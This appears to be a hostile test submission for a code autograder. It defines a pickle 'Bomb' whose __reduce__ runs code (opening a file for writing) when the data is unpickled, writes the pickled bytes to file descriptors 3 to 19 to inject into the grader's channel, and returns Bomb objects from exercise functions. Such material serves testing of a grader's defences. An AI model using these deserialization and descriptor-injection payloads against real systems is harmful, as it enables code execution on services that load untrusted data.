"""Returns, and sends, pickles that run code when they are read.

Worth: 0
"""

# %%
import pickle

class Bomb:
    def __reduce__(self):
        return (open, ("@TARGET@/pickled", "w"))

data = pickle.dumps(Bomb())
import json
import os
import struct

def frame(document, raw=b""):
    text = document if isinstance(document, bytes) else json.dumps(document).encode()
    return struct.pack("!II", len(text), len(raw)) + text + raw

def send(data):
    for number in range(3, 20):
        try:
            os.write(number, data)
        except OSError:
            pass

send(data)

# %% exercise="double"
def double(x):
    return Bomb()

# %% exercise="quad"
def quad(x):
    return np.array([Bomb(), data], dtype=object)
